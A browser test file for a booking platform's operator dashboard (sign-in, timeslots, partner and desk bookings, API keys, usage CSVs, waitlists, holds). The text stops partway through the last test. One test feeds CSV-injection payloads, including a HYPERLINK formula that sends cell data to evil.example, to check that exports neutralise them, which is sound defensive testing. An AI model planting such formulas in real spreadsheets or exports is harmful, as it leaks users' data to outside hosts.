// The operator dashboard in a real browser (Debian's Chromium through playwright-core) against a real
// `slotbook serve` process: sign in, activities and timeslots, a partner booking found with its
// marketplace and payment reference, a point-of-sale booking, a cancellation, keys, usage, and the
// pages of APIs still to come. Skips when /usr/bin/chromium is missing; runs on the SQLite project only
// (the browser sees the same HTTP API on either database, and the API suites cover PostgreSQL).
import { readFileSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Page } from 'playwright-core';
import { testDialect } from '../helpers/database.js';
import { axeViolations, hasChromium, navigationLinks, screenshot, signIn, signOut } from './browser.js';
import { startDashboardWorld, type DashboardWorld } from './dashboard-world.js';
import { startSmtp, type TestSmtp } from '../emails/smtp.js';
import { unixNow } from '../../src/lib/clock.js';

const run = hasChromium && testDialect() === 'sqlite';
if (!hasChromium) console.warn('Chromium is not installed at /usr/bin/chromium: skipping the dashboard browser tests (apt-get install -y chromium)');

const utcDate = (days: number) => new Date(Date.now() + days * 86_400_000).toISOString().slice(0, 10);
const DAY = utcDate(2);
const nav = (page: Page) => page.getByRole('navigation', { name: 'Main' });

describe.skipIf(!run)('operator dashboard in a browser', { timeout: 60_000 }, () => {
  let world: DashboardWorld;
  let page: Page;
  let admin: string;
  let operatorId: number;
  let base: string;
  let viator: { Key: string };
  let smtp: TestSmtp;
  let ownerLink: string;
  const OWNER = 'owner@spree.example';
  const OWNER_PASSWORD = 'paddles at golden hour';

  const callApi = <T = unknown>(key: string, method: string, path: string, body?: unknown) => world.call<T>(method, path, body, key);
  const ok = <T = unknown>(key: string, method: string, path: string, body?: unknown) => world.api<T>(method, path, body, key);
  const customer = (first: string, last: string) => ({
    FirstName: first,
    LastName: last,
    Email: `${first.toLowerCase()}@example.com`,
    Phone: '+4915112345678',
  });

  beforeAll(async () => {
    smtp = await startSmtp();
    world = await startDashboardWorld({ operator: 'Spree Adventures', owner: OWNER, serverEnv: { SMTP_URL: smtp.url } });
    base = world.server.url;
    admin = world.admin;
    operatorId = world.operator.OperatorID;
    ownerLink = world.operator.SignInLink;

    // Other activities and bookings, so that the pages show a working day's data.
    const escape = await ok<{ ActivityID: string }>(admin, 'POST', '/api/v2/admin/activities', {
      Name: 'Escape Room: The Vault',
      Description: 'Crack the bank vault in 60 minutes. For 2 to 6 players.',
      DurationMinutes: 60,
      Timezone: 'America/New_York',
      Currency: 'USD',
      UnitPrice: 3500,
      MaxParticipantsPerBooking: 6,
    });
    const pottery = await ok<{ ActivityID: string }>(admin, 'POST', '/api/v2/admin/activities', {
      Name: 'Pottery Wheel Class',
      Description: 'A beginner class at the wheel; your bowl is fired and ready a week later.',
      DurationMinutes: 150,
      Timezone: 'Asia/Tokyo',
      Currency: 'JPY',
      UnitPrice: 6500,
      MaxParticipantsPerBooking: 4,
    });
    for (const [activity, times] of [
      [escape.ActivityID, ['12:00', '15:00', '19:00']],
      [pottery.ActivityID, ['14:00']],
    ] as const) {
      await ok(admin, 'POST', `/api/v2/admin/activities/${activity}/timeslots`, {
        From: utcDate(-3),
        To: utcDate(40),
        Weekdays: [1, 2, 3, 4, 5, 6, 7],
        Times: times,
        Capacity: 8,
      });
    }
    viator = await ok<{ Key: string }>(admin, 'POST', '/api/v2/admin/keys', { Name: 'Viator', Scopes: ['ota'], Partner: 'viator' });
    // A production server (no real payment provider yet): the shop opens as a test shop.
    await ok(admin, 'PATCH', '/api/v2/admin/shop', { Open: true, TestMode: true });
    await ok(admin, 'POST', '/api/v2/admin/keys', { Name: 'Usage reporter', Scopes: ['usage:write'] });
    const bookings: [string, string, string, number, string, string][] = [
      [escape.ActivityID, DAY, '12:00', 4, 'Grace', 'Hopper'],
      [escape.ActivityID, DAY, '19:00', 2, 'Alan', 'Turing'],
      [pottery.ActivityID, DAY, '14:00', 2, 'Yuki', 'Tanaka'],
      [escape.ActivityID, utcDate(3), '15:00', 5, 'Katherine', 'Johnson'],
    ];
    for (const [i, [activity, date, time, participants, first, last]] of bookings.entries()) {
      await ok(viator.Key, 'POST', '/api/v2/ota/viator/booking', {
        ActivityID: activity,
        Date: date,
        Time: time,
        Participants: participants,
        Customer: customer(first, last),
        PaymentReference: `VTR-${48210 + i}`,
      });
    }
    await ok(admin, 'POST', '/api/v2/admin/bookings', {
      ActivityID: pottery.ActivityID,
      Date: utcDate(3),
      Time: '14:00',
      Participants: 3,
      Customer: customer('Margaret', 'Hamilton'),
    });

    page = await world.openBrowser();
  }, 120_000);

  afterAll(async () => {
    await world?.close();
    await smtp?.close();
  });

  it('serves the app fast, with a cached bundle; the owner sets a password from the printed link and signs in', async () => {
    // The best of three loads: the test suite shares two cores with other test files, and one load can
    // be delayed by them; the page itself must be well under a second every time it gets the machine.
    const loads: number[] = [];
    for (let i = 0; i < 3; i++) {
      const started = Date.now();
      await page.goto(`${base}/`);
      await page.getByLabel('E-mail address', { exact: true }).waitFor();
      const timing = await page.evaluate(() => {
        const [nav] = performance.getEntriesByType('navigation') as PerformanceNavigationTiming[];
        return nav ? nav.domContentLoadedEventEnd : 0;
      });
      loads.push(Math.max(Date.now() - started, timing));
    }
    expect(Math.min(...loads)).toBeLessThan(1000);

    // Nothing to sign in with yet: the owner has only the link `operator create` printed.
    await page.getByLabel('E-mail address', { exact: true }).fill(OWNER);
    await page.getByLabel('Password', { exact: true }).fill('not the password');
    await page.getByRole('button', { name: 'Sign in', exact: true }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('not right');
    await page.getByLabel('Password', { exact: true }).fill('');
    await screenshot(page, 'sign-in');

    await page.goto(ownerLink);
    await page.getByRole('heading', { name: "Welcome to your team's dashboard" }).waitFor();
    await page.getByLabel('New password', { exact: true }).fill('too short');
    await page.getByLabel('Repeat the password', { exact: true }).fill('too short');
    await page.getByRole('button', { name: 'Set password and sign in' }).click();
    await expect.poll(() => page.getByRole('alert').textContent()).toContain('at least 12 characters');
    await page.getByLabel('New password', { exact: true }).fill(OWNER_PASSWORD);
    await page.getByLabel('Repeat the password', { exact: true }).fill(OWNER_PASSWORD);
    await page.getByRole('button', { name: 'Set password and sign in' }).click();
    await page.getByRole('heading', { name: 'Bookings', level: 1 }).waitFor();
    expect(new URL(page.url()).pathname).toBe('/bookings');
    // The session is an HttpOnly cookie: nothing for scripts to read or steal.
    expect(await page.evaluate(() => document.cookie + JSON.stringify(sessionStorage) + JSON.stringify(localStorage))).not.toMatch(
      /slotbook_session|sbk_/,
    );
    expect(await navigationLinks(page)).toEqual([
      'Bookings',
      'Manifests',
      'Activities',
      'Waitlists',
      'Usage',
      'Reports',
      'Workflows',
      'E-mails',
      'Webhooks',
      'Users',
      'API keys',
      'GetYourGuide',
      'Viator',
      'Audit log',
      'Shop settings',
    ]);

    await signOut(page);
    await signIn(page, base, OWNER, OWNER_PASSWORD);
    await page.getByRole('heading', { name: 'Bookings', level: 1 }).waitFor();
  });

  it('creates an activity and a weekly schedule of timeslots, and edits its waiver questions', async () => {
    await nav(page).getByRole('link', { name: 'Activities', exact: true }).click();
    await page.getByRole('heading', { name: 'Activities', level: 1 }).waitFor();
    await page.getByRole('button', { name: 'New activity' }).click();
    const dialog = page.getByRole('dialog', { name: 'New activity' });
    await dialog.getByLabel('Name', { exact: true }).fill('Sunset Kayak Tour');
    await dialog.getByLabel('Description', { exact: true }).fill('Two hours on the Spree at golden hour, with a guide and all equipment.');
    await dialog.getByLabel('Duration (minutes)', { exact: true }).fill('120');
    await dialog.getByLabel('Max participants per booking', { exact: true }).fill('8');
    await dialog.getByLabel('Time zone', { exact: true }).selectOption('Europe/Berlin');
    await dialog.getByLabel('Currency', { exact: true }).selectOption('EUR');
    await dialog.getByLabel('Price per participant', { exact: true }).fill('49.00');
    await dialog.getByRole('button', { name: 'Create activity' }).click();
    await page.getByRole('heading', { name: 'Sunset Kayak Tour', level: 1 }).waitFor();
    expect(await page.getByText('€49.00 per person').count()).toBe(1);

    await page.getByRole('button', { name: 'Add timeslots' }).first().click();
    const add = page.getByRole('dialog', { name: /Add timeslots/ });
    await add.getByLabel('From', { exact: true }).fill(utcDate(-2));
    await add.getByLabel('To', { exact: true }).fill(utcDate(30));
    await add.getByLabel('Capacity of each', { exact: true }).fill('12');
    await add.getByLabel('Start time 1', { exact: true }).fill('10:00');
    await add.getByRole('button', { name: 'Add a time' }).click();
    await add.getByLabel('Start time 2', { exact: true }).fill('18:30');
    await add.getByText('Sun', { exact: true }).click(); // no tours on Sundays
    await add.getByRole('button', { name: /^Add \d+ timeslots$/ }).click();
    const done = page.getByText(/Added \d+ timeslots/);
    await done.waitFor();
    // 33 days, six a week, two a day; the calendar shows the current month, of which near its end only a
    // few days have any (it once asked for more than 20 chips, and failed on the 27th of a month).
    expect(Number(/Added (\d+)/.exec((await done.textContent()) ?? '')?.[1])).toBeGreaterThan(50);
    const chips = page.locator('[data-timeslot]');
    await expect.poll(() => chips.count()).toBeGreaterThan(0);

    // One extra timeslot, then its capacity changed from the calendar.
    const activityId = new URL(page.url()).pathname.split('/')[2]!;
    const timeslots = await ok<{ ID: number; Date: string; Time: string; Capacity: number }[]>(
      admin,
      'GET',
      `/api/v2/admin/activities/${activityId}/timeslots?From=${DAY}&To=${DAY}`,
    );
    expect(timeslots.map((t) => [t.Time, t.Capacity])).toEqual(
      new Date(`${DAY}T00:00:00Z`).getUTCDay() === 0
        ? []
        : [
            ['10:00', 12],
            ['18:30', 12],
          ],
    );
    await page.getByRole('button', { name: 'Add timeslots' }).first().click();
    await add.getByText('One timeslot').click();
    await add.getByLabel('Date', { exact: true }).fill(DAY);
    await add.getByLabel('Start time', { exact: true }).fill('14:00');
    await add.getByLabel('Capacity', { exact: true }).fill('6');
    await add.getByRole('button', { name: 'Add timeslot' }).click();
    await page.getByText(/Added 14:00/).waitFor();
    const single = (
      await ok<{ ID: number; Time: string }[]>(admin, 'GET', `/api/v2/admin/activities/${activityId}/timeslots?From=${DAY}&To=${DAY}`)
    ).find((t) => t.Time === '14:00')!;
    if (DAY.slice(0, 7) !== utcDate(0).slice(0, 7)) await page.getByRole('button', { name: 'Next month' }).click();
    await page.locator(`[data-timeslot="${single.ID}"]`).click();
    const slotDialog = page.getByRole('dialog', { name: /14:00–16:00/ });
    await slotDialog.getByLabel('Capacity', { exact: true }).fill('10');
    await slotDialog.getByRole('button', { name: 'Save capacity' }).click();
    await page.getByText(/is now 10/).waitFor();
    await slotDialog.getByRole('button', { name: 'Close' }).click();
    if (DAY.slice(0, 7) !== utcDate(0).slice(0, 7)) await page.getByRole('button', { name: 'Today' }).click();
    await screenshot(page, 'activity-timeslots');

    // Waiver questions: a required file upload and a choice.
    await page.getByRole('link', { name: 'Waiver questions' }).click();
    await page.getByRole('button', { name: 'Add question' }).first().click();
    await page.getByLabel('Question', { exact: true }).fill('Upload a signed medical certificate');
    await page.getByLabel('Answer type', { exact: true }).selectOption('file');
    expect(await page.getByLabel('Requires a file upload', { exact: true }).isChecked()).toBe(true);
    await page.getByRole('button', { name: 'Add question' }).last().click();
    await page.getByText('Question added.').waitFor();
    await page.getByRole('button', { name: 'Add question' }).first().click();
    await page.getByLabel('Question', { exact: true }).fill('How well can you swim?');
    await page.getByLabel('Answer type', { exact: true }).selectOption('select');
    await page.getByLabel('Choices, one per line', { exact: true }).fill('Not at all\nA little\nConfidently');
    await page.getByRole('button', { name: 'Add question' }).last().click();
    await expect.poll(() => page.locator('[data-question]').count()).toBe(2);
    const questions = await ok<{ Question: string; Type: string; Required: boolean; RequiresFileUpload: boolean; Options: string[] }[]>(
      admin,
      'GET',
      `/api/v2/admin/activities/${activityId}/questions`,
    );
    expect(questions.map((q) => [q.Type, q.Required, q.RequiresFileUpload, q.Options])).toEqual([
      ['file', true, true, []],
      ['select', true, false, ['Not at all', 'A little', 'Confidently']],
    ]);
    // Reorder: the swimming question first.
    await page.getByRole('button', { name: 'Move "How well can you swim?" up' }).click();
    await expect.poll(async () => (await page.locator('.question-text').first().textContent())?.trim()).toBe('How well can you swim?');
    await screenshot(page, 'activity-questions');
  });

  it('creates a partner key (secret shown once), and the partner booking appears with its marketplace and payment reference', async () => {
    await nav(page).getByRole('link', { name: 'API keys', exact: true }).click();
    await page.getByLabel('Name', { exact: true }).fill('GetYourGuide');
    await page.getByLabel('Marketplace', { exact: true }).selectOption('getyourguide');
    await page.getByRole('button', { name: 'Create key' }).click();
    const secretDialog = page.getByRole('dialog', { name: 'Your new API key' });
    const secret = await secretDialog.getByLabel('Secret key', { exact: true }).inputValue();
    expect(secret).toMatch(/^sbk_/);
    await secretDialog.getByRole('button', { name: 'Copy' }).click();
    await secretDialog.getByRole('button', { name: 'Copied' }).waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(secret);
    await secretDialog.getByRole('button', { name: 'I have stored it' }).click();

    const kayak = (await ok<{ ActivityID: string; Name: string }[]>(admin, 'GET', '/api/v2/admin/activities')).find(
      (a) => a.Name === 'Sunset Kayak Tour',
    )!;
    const booked = await ok<{ BookingReference: string }>(secret, 'POST', '/api/v2/ota/getyourguide/booking', {
      ActivityID: kayak.ActivityID,
      Date: DAY,
      Time: '14:00',
      Participants: 2,
      Customer: customer('Ada', 'Lovelace'),
      PaymentReference: 'GYG-PAY-771204',
    });

    await nav(page).getByRole('link', { name: 'Bookings', exact: true }).click();
    await page.getByLabel('Source', { exact: true }).selectOption('partner');
    const row = page.locator(`tr[data-reference="${booked.BookingReference}"]`);
    await row.waitFor();
    // The key's marketplace, as the operator named it (GetYourGuide's own connection is `GetYourGuide`).
    expect(await row.textContent()).toContain('getyourguide');
    expect(await row.textContent()).toContain('GYG-PAY-771204');
    expect(await row.textContent()).toContain('Sunset Kayak Tour');
    await page.getByLabel('Search', { exact: true }).fill('lovelace');
    await expect.poll(() => page.locator('tr[data-reference]').count()).toBe(1);
    await page.getByLabel('Search', { exact: true }).fill('');
    await page.getByLabel('Source', { exact: true }).selectOption('');
    await expect.poll(() => page.locator('tr[data-reference]').count()).toBe(6);
    await screenshot(page, 'bookings');

    await row.getByRole('link').click();
    await page.getByRole('heading', { name: `Booking ${booked.BookingReference}` }).waitFor();
    const details = await page.locator('.detail-grid').textContent();
    expect(details).toContain('getyourguide');
    expect(details).toContain('GYG-PAY-771204');
  });

  it('makes a point-of-sale booking showing the seats left, then cancels it', async () => {
    await nav(page).getByRole('link', { name: 'Bookings', exact: true }).click();
    await page.getByRole('link', { name: 'New booking' }).click();
    await page.getByRole('heading', { name: 'New point-of-sale booking' }).waitFor();
    await page.getByLabel('Activity', { exact: true }).selectOption({ label: 'Sunset Kayak Tour' });
    await page.getByLabel('Or another date', { exact: true }).fill(DAY);
    const slot = page.locator('label.slot', { hasText: '14:00' });
    await slot.waitFor();
    expect(await slot.textContent()).toContain('8 of 10 seats left');
    await slot.click();
    await page.getByLabel('Participants', { exact: true }).fill('3');
    await expect.poll(() => page.locator('.seats-callout').textContent()).toContain('5 after this booking');
    await page.getByLabel('First name', { exact: true }).fill('Lin');
    await page.getByLabel('Last name', { exact: true }).fill('Chen');
    await page.getByLabel('E-mail', { exact: true }).fill('lin.chen@example.com');
    await page.getByLabel('Phone', { exact: true }).fill('+49 30 1234567');
    await page.getByLabel('Payment reference (optional)', { exact: true }).fill('TILL-0042');
    await page.getByLabel('Paid at the desk', { exact: true }).selectOption('card_terminal');
    await page.getByLabel('Amount (EUR)', { exact: true }).fill('20');
    await page.getByLabel('Receipt number', { exact: true }).fill('RCPT-9');
    await screenshot(page, 'new-booking');
    await page.getByRole('button', { name: 'Book 3 seats at 14:00' }).click();
    await page.getByRole('heading', { name: /^Booking BK-/ }).waitFor();
    const reference = (await page.getByRole('heading', { level: 1 }).textContent())!.replace('Booking ', '');
    expect(await page.locator('.detail-grid').textContent()).toContain('Point of sale');

    await page.getByRole('button', { name: 'Cancel booking' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel booking' }).click();
    await page.getByText(/is cancelled; its seats are back on sale/).waitFor();
    expect(await page.locator('.page-header .badge').first().textContent()).toBe('Cancelled');
    await screenshot(page, 'booking-detail');
    const booking = await ok<{ Status: string; Source: string; PaymentReference: string }>(admin, 'GET', `/api/v2/admin/bookings/${reference}`);
    expect(booking).toMatchObject({
      Status: 'cancelled',
      Source: 'pos',
      PaymentReference: 'TILL-0042',
      AmountPaid: 2000,
      Payments: [{ Method: 'card_terminal', Provider: 'desk', ProviderReference: 'RCPT-9', Amount: '20.00' }],
    });
  });

  it('books a walk-in with a first name alone', async () => {
    await nav(page).getByRole('link', { name: 'Bookings', exact: true }).click();
    await page.getByRole('link', { name: 'New booking' }).click();
    await page.getByLabel('Activity', { exact: true }).selectOption({ label: 'Sunset Kayak Tour' });
    await page.getByLabel('Or another date', { exact: true }).fill(DAY);
    await page.locator('label.slot', { hasText: '14:00' }).click();
    await page.getByLabel('Participants', { exact: true }).fill('1');
    await page.getByLabel('First name', { exact: true }).fill('Maria');
    await page.getByRole('button', { name: 'Book 1 seat at 14:00' }).click();
    await page.getByRole('heading', { name: /^Booking BK-/ }).waitFor();
    await page.getByText('Not given: the guest gets no e-mails').waitFor();
    expect(await axeViolations(page)).toEqual([]);
    const reference = (await page.getByRole('heading', { level: 1 }).textContent())!.replace('Booking ', '');
    const booking = await ok<{ Customer: unknown }>(admin, 'GET', `/api/v2/admin/bookings/${reference}`);
    expect(booking.Customer).toEqual({ FirstName: 'Maria', LastName: '', Email: '', Phone: '' });
    await page.getByRole('button', { name: 'Cancel booking' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Cancel booking' }).click();
    await expect.poll(() => page.locator('.page-header .badge').first().textContent()).toBe('Cancelled');
  });

  it('creates and revokes a key', async () => {
    await nav(page).getByRole('link', { name: 'API keys', exact: true }).click();
    await page.getByLabel('Name', { exact: true }).fill('Old reporting script');
    await page.getByLabel('Partner (ota)', { exact: true }).uncheck();
    await page.getByLabel('Usage: read', { exact: true }).check();
    await page.getByRole('button', { name: 'Create key' }).click();
    const secret = await page.getByRole('dialog', { name: 'Your new API key' }).getByLabel('Secret key', { exact: true }).inputValue();
    await page.getByRole('button', { name: 'I have stored it' }).click();
    expect((await callApi(secret, 'GET', `/api/v2/usage/meters?from=${DAY}&to=${DAY}`)).status).toBe(200);

    await page.getByRole('button', { name: 'Revoke Old reporting script' }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Revoke key' }).click();
    await page.getByText(/is revoked/).waitFor();
    const row = page.locator('tr', { hasText: 'Old reporting script' });
    await expect.poll(() => row.textContent()).toContain('Revoked');
    expect((await callApi(secret, 'GET', `/api/v2/usage/meters?from=${DAY}&to=${DAY}`)).status).toBe(401);
    await screenshot(page, 'api-keys');
  });

  it('shows usage totals, the per-meter table and the chart exactly as the usage API answers', async () => {
    const now = unixNow();
    const entries: [string, number | string, number][] = [];
    for (let day = 0; day < 12; day++) {
      entries.push(['sms-sent', 20 + ((day * 7) % 13), now - day * 86_400]);
      entries.push(['storage-gb', (1.25 + day * 0.1).toFixed(2), now - day * 86_400 - 3600]);
      if (day % 3 === 0) entries.push(['api-calls', 1500 + day * 40, now - day * 86_400]);
    }
    for (const [Meter, Usage, OccurredAt] of entries) await ok(admin, 'POST', '/api/v2/usage/meters', { Meter, Usage, OccurredAt });
    const from = utcDate(-13);
    const to = utcDate(0);
    const summary = await ok<{ Totals: { Usage: number; Events: number }; Meters: { Meter: string; TotalUsage: number; EventCount: number }[] }>(
      admin,
      'GET',
      `/api/v2/usage/meters?from=${from}&to=${to}`,
    );
    expect(summary.Meters.length).toBeGreaterThanOrEqual(3);

    await nav(page).getByRole('link', { name: 'Usage', exact: true }).click();
    await page.getByLabel('From (UTC)', { exact: true }).fill(from);
    await page.getByLabel('To (UTC)', { exact: true }).fill(to);
    const rows = page.locator('tr[data-meter]');
    await expect.poll(() => rows.count()).toBe(summary.Meters.length);
    const table = await rows.evaluateAll((trs) =>
      trs.map((tr) => ({
        Meter: tr.getAttribute('data-meter'),
        TotalUsage: Number(tr.children[1]!.getAttribute('data-value')),
        EventCount: Number(tr.children[2]!.getAttribute('data-value')),
      })),
    );
    expect(table).toEqual(summary.Meters);
    expect(await page.getByTestId('total-events').textContent()).toBe(String(summary.Totals.Events));

    const daily = await callApi<{ Days: { Date: string; Meters: { Meter: string; TotalUsage: number }[] }[] }>(
      admin,
      'GET',
      `/api/v2/usage/meters/daily?from=${from}&to=${to}`,
    );
    if (daily.status === 404) {
      // The per-day API is not offered by this server yet: the page says so instead of drawing a chart.
      await page.getByText('Daily figures are not available on this server').waitFor();
    } else {
      expect(daily.status).toBe(200);
      const charts = page.locator('figure[data-meter]');
      await expect.poll(() => charts.count()).toBe(summary.Meters.length);
      for (const meter of summary.Meters) {
        const chart = page.locator(`figure[data-meter="${meter.Meter}"]`);
        expect(Number(await chart.getAttribute('data-sum'))).toBeCloseTo(meter.TotalUsage, 6);
        const bars = await chart
          .locator('rect[data-date]')
          .evaluateAll((rects) => rects.map((r) => [r.getAttribute('data-date'), Number(r.getAttribute('data-value'))]));
        const expected = new Map(daily.data.Days.map((d) => [d.Date, d.Meters.find((m) => m.Meter === meter.Meter)?.TotalUsage ?? 0]));
        for (const [date, value] of bars) expect(value).toBeCloseTo(expected.get(date as string) ?? 0, 6);
      }
    }
    const downloading = page.waitForEvent('download');
    await page.getByRole('button', { name: 'Summary CSV' }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe(`slotbook-usage-${from}-to-${to}.csv`);
    await screenshot(page, 'usage');
  });

  it('downloads usage CSVs in which a meter name is never a spreadsheet formula', async () => {
    const formulas = ['=HYPERLINK("https://evil.example/?"&A2,"Open")', '+1+1', '-2+3', '@SUM(A1:A9)', '=1+2', '\uFF1D1+1'];
    for (const Meter of formulas) await ok(admin, 'POST', '/api/v2/usage/meters', { Meter, Usage: 2 });
    const today = utcDate(0);
    await page.goto(`${base}/usage?from=${today}&to=${today}`);
    await expect.poll(() => page.locator('tr[data-meter]').count()).toBeGreaterThanOrEqual(formulas.length);
    for (const button of ['Summary CSV', 'Daily CSV']) {
      const downloading = page.waitForEvent('download');
      await page.getByRole('button', { name: button }).click();
      const text = readFileSync((await (await downloading).path())!, 'utf8');
      const meterCells = text
        .trim()
        .split('\r\n')
        .slice(1)
        .map((line) => (button === 'Summary CSV' ? line : line.slice(line.indexOf(',') + 1)));
      for (const formula of formulas) {
        const quoted = /[",]/.test(formula) ? `"'${formula.replace(/"/g, '""')}"` : `'${formula}`;
        expect(
          meterCells.some((cell) => cell.startsWith(`${quoted},`)),
          `${button}: ${formula}`,
        ).toBe(true);
      }
      // No cell of the file starts a formula.
      expect(
        meterCells.every((cell) => !/^"?[=+\-@\t\r\uFF1D]/.test(cell)),
        button,
      ).toBe(true);
    }
  });

  it('shows the waitlist of a sold-out timeslot and the e-mail outbox', async () => {
    // A confirmation workflow, a sold-out 15:00 escape room (two point-of-sale bookings of 4 seats), and a
    // customer who joins its waitlist through the public shop.
    await ok(admin, 'POST', '/api/v2/admin/workflows', {
      Name: 'Booking confirmation',
      Event: 'booking-confirmed',
      Subject: 'Your booking {{BookingReference}} is confirmed',
      Body: 'See you on {{Date}} at {{Time}}.',
    });
    const escape = (await ok<{ ActivityID: string; Name: string }[]>(admin, 'GET', '/api/v2/admin/activities')).find(
      (a) => a.Name === 'Escape Room: The Vault',
    )!;
    const daySlots = await ok<{ ID: number; Time: string; Available: number }[]>(
      admin,
      'GET',
      `/api/v2/admin/activities/${escape.ActivityID}/timeslots?From=${DAY}&To=${DAY}`,
    );
    const slot = daySlots.find((t) => t.Time === '15:00')!;
    expect(daySlots[0]!.Time).not.toBe('15:00');
    for (const name of ['Mary', 'Edsger']) {
      await ok(admin, 'POST', '/api/v2/admin/bookings', {
        ActivityID: escape.ActivityID,
        Date: DAY,
        Time: '15:00',
        Participants: 4,
        Customer: customer(name, 'Full'),
      });
    }
    const joined = await fetch(`${base}/api/v2/shop/${operatorId}/waitlists`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ ActivityID: escape.ActivityID, Date: DAY, Time: '15:00', Participants: 2, Customer: customer('Barbara', 'Liskov') }),
    });
    expect(joined.status).toBe(202); // a place waiting for its address to be confirmed

    await nav(page).getByRole('link', { name: 'Waitlists', exact: true }).click();
    await page.getByLabel('Activity', { exact: true }).selectOption({ label: 'Escape Room: The Vault' });
    await page.getByLabel('Date', { exact: true }).fill(DAY);
    await page.getByLabel('Timeslot', { exact: true }).selectOption(String(slot.ID));
    await page.getByRole('heading', { name: /Waitlist for .*15:00/ }).waitFor();
    await page
      .getByRole('table', { name: 'Waitlist' })
      .getByText(/Liskov/)
      .waitFor();
    await screenshot(page, 'waitlists');
    // A link (the calendar's) names the timeslot; one that is not on that day's list falls back to its first.
    const linkTo = (timeslot: number) => `${base}/waitlists?activity=${escape.ActivityID}&date=${DAY}&timeslot=${timeslot}`;
    await page.goto(linkTo(slot.ID));
    await page
      .getByRole('table', { name: 'Waitlist' })
      .getByText(/Liskov/)
      .waitFor();
    expect(await page.getByLabel('Timeslot', { exact: true }).inputValue()).toBe(String(slot.ID));
    await page.goto(linkTo(999_999));
    await page.getByRole('heading', { name: new RegExp(`Waitlist for .*${daySlots[0]!.Time}`) }).waitFor();
    expect(await page.getByLabel('Timeslot', { exact: true }).inputValue()).toBe(String(daySlots[0]!.ID));

    await nav(page).getByRole('link', { name: 'E-mails', exact: true }).click();
    await page.getByRole('heading', { name: 'Outbox' }).waitFor();
    const emails = await ok<{ Subject: string }[]>(admin, 'GET', '/api/v2/admin/emails');
    expect(emails.filter((e) => /^Your booking BK-\w+ is confirmed$/.test(e.Subject))).toHaveLength(2);
    await page.getByText(emails[0]!.Subject).first().waitFor();
    await screenshot(page, 'emails');
  });

  it("shows a booking's waiver answers and downloads an answer's file, never opening it in the page", async () => {
    const pottery = (await ok<{ ActivityID: string; Name: string }[]>(admin, 'GET', '/api/v2/admin/activities')).find(
      (a) => a.Name === 'Pottery Wheel Class',
    )!;
    const question = await ok<{ ID: number }>(admin, 'POST', `/api/v2/admin/activities/${pottery.ActivityID}/questions`, {
      Question: 'Photo ID of the lead participant',
      Type: 'file',
      Required: false,
    });
    const { Key } = await ok<{ Key: string }>(admin, 'POST', '/api/v2/admin/keys', { Name: 'Waiver partner', Scopes: ['ota'], Partner: 'viator' });
    const pdf = Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n');
    const uploaded = await fetch(`${base}/api/v2/ota/viator/uploads`, {
      method: 'POST',
      headers: { authorization: `Bearer ${Key}`, 'content-type': 'application/pdf' },
      body: pdf,
    });
    expect(uploaded.status).toBe(201);
    const { FileID } = (await uploaded.json()).data;
    const booked = await ok<{ BookingReference: string }>(Key, 'POST', '/api/v2/ota/viator/booking', {
      ActivityID: pottery.ActivityID,
      Date: utcDate(30),
      Time: '14:00',
      Participants: 1,
      Customer: customer('Hedy', 'Lamarr'),
      WaiverAnswers: [{ QuestionID: question.ID, Answer: FileID }],
    });

    await page.goto(`${base}/bookings/${booked.BookingReference}`);
    const card = page.locator('.waiver-answers');
    await card.getByText('Photo ID of the lead participant').waitFor();
    const downloading = page.waitForEvent('download');
    await card.getByRole('button', { name: /Download PDF/ }).click();
    const download = await downloading;
    expect(download.suggestedFilename()).toBe(`${booked.BookingReference}-${FileID}.pdf`);
    expect(readFileSync((await download.path())!).equals(pdf)).toBe(true);
    expect(page.url()).toBe(`${base}/bookings/${booked.BookingReference}`);
  });

  it('shows the live holds of a timeslot with their holders, and releases one, then all', async () => {
    const pottery = (await ok<{ ActivityID: string; Name: string }[]>(admin, 'GET', '/api/v2/admin/activities')).find(
      (a) => a.Name === 'Pottery Wheel Class',
    )!;
    const shop = `${base}/api/v2/shop/${operatorId}`;
    const post = async (url: string, body: unknown) => {
      const response = await fetch(url, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify(body) });
      expect(response.status, await response.clone().text()).toBeLessThan(300);
      return (await response.json()).data;
    };
    for (const [name, seats] of [
      ['Ada', 2],
      ['Alan', 2],
      ['Ken', 1],
    ] as const) {
      const basket = await post(`${shop}/baskets`, { Customer: customer(name, 'Shopper') });
      await post(`${shop}/baskets/${basket.BasketToken}/items`, { ActivityID: pottery.ActivityID, Date: DAY, Time: '14:00', Participants: seats });
    }
    await ok(viator.Key, 'POST', '/api/v2/ota/viator/booking', {
      ActivityID: pottery.ActivityID,
      Date: DAY,
      Time: '14:00',
      Participants: 1,
      Customer: customer('Hedy', 'Lamarr'),
      HoldMinutes: 30,
    });
    const slot = (
      await ok<{ ID: number; Time: string; Booked: number }[]>(
        admin,
        'GET',
        `/api/v2/admin/activities/${pottery.ActivityID}/timeslots?From=${DAY}&To=${DAY}`,
      )
    )[0]!;
    expect(slot.Booked).toBe(8); // Yuki's 2 confirmed, and 6 on hold

    await page.goto(`${base}/activities/${pottery.ActivityID}?month=${DAY.slice(0, 7)}`);
    await page.locator(`[data-timeslot="${slot.ID}"]`).click();
    const dialog = page.getByRole('dialog', { name: /14:00/ });
    const holds = dialog.getByRole('region', { name: /Held seats/ });
    await holds.getByText('6 seats in 4 holds').waitFor();
    await holds.getByText(/Partner viator/).waitFor();
    expect(await holds.getByText(/Online shop, client [0-9a-f]{12}/).count()).toBe(3);
    expect(await axeViolations(page, 'dialog[open]')).toEqual([]);
    await screenshot(page, 'timeslot-holds', false);

    const first = await holds
      .getByRole('button', { name: /^Release hold BK-/ })
      .first()
      .getAttribute('aria-label');
    await holds.getByRole('button', { name: first! }).click();
    await holds
      .getByRole('group', { name: `${first}?` })
      .getByRole('button', { name: 'Yes, release' })
      .click();
    await page
      .getByText(/back on sale/)
      .first()
      .waitFor();
    await holds.getByText(/in 3 holds/).waitFor();
    // The booking page of a hold releases it too.
